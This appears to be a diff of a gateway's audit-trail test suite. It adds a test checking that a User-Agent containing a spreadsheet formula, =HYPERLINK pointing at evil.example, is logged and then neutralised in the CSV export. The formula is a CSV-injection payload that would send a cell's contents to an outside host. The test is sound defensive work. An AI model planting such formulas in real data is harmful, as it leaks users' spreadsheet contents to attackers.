@@ -250,7 +250,13 @@ describe('audit trail', () => {
       Buffer.from('GET /admin/v1/keys HTTP/1.1\r\nHost: x\r\nUser-Agent: probe-'), Buffer.from([0xff, 0xfe]),
       Buffer.from('\r\nConnection: close\r\n\r\n')])], { timeoutMs: 4000, stopWhenComplete: true });
     assert.equal(rawUa.response?.status, 401, rawUa.text);
+    // A User-Agent a spreadsheet would run as a formula: the CSV export keeps it text.
+    const formulaUa = await rawExchange(gw.adminPort, [Buffer.from(
+      'GET /admin/v1/keys HTTP/1.1\r\nHost: x\r\nUser-Agent: =HYPERLINK("http://evil.example/"&A1)\r\nConnection: close\r\n\r\n')],
+    { timeoutMs: 4000, stopWhenComplete: true });
+    assert.equal(formulaUa.response?.status, 401, formulaUa.text);
     await eventually(() => records(auditDir).some((r) => String(r.user_agent).startsWith('probe-')), { what: 'the probe audited' });
+    await eventually(() => records(auditDir).some((r) => String(r.user_agent).startsWith('=HYPERLINK')), { what: 'the formula audited' });
     await gw.stopClean();
     gw = undefined;
     const { code, report } = await verify(auditDir);
@@ -273,6 +279,10 @@ describe('audit trail', () => {
     assert.match(rows[0], /,prompt_tokens,cached_tokens,cache_write_tokens,completion_tokens,cost_usd,/);
     assert.equal(rows.length, 1 + 2, team.stdout);
     assert.ok(rows.slice(1).every((r) => r.split(',')[5] === 'tiny'));
+    const everything = await ctl(['audit', 'export', '--dir', auditDir, '--format', 'csv']);
+    assert.equal(everything.code, 0, everything.stderr);
+    assert.ok(everything.stdout.includes(',"\'=HYPERLINK(""http://evil.example/""&A1)",'), everything.stdout);
+    assert.ok(!/,=HYPERLINK/.test(everything.stdout));
     const future = await ctl(['audit', 'export', '--dir', auditDir, '--from', '2999-01-01T00:00:00Z']);
     assert.equal(future.code, 0);
     assert.equal(future.stdout, '');
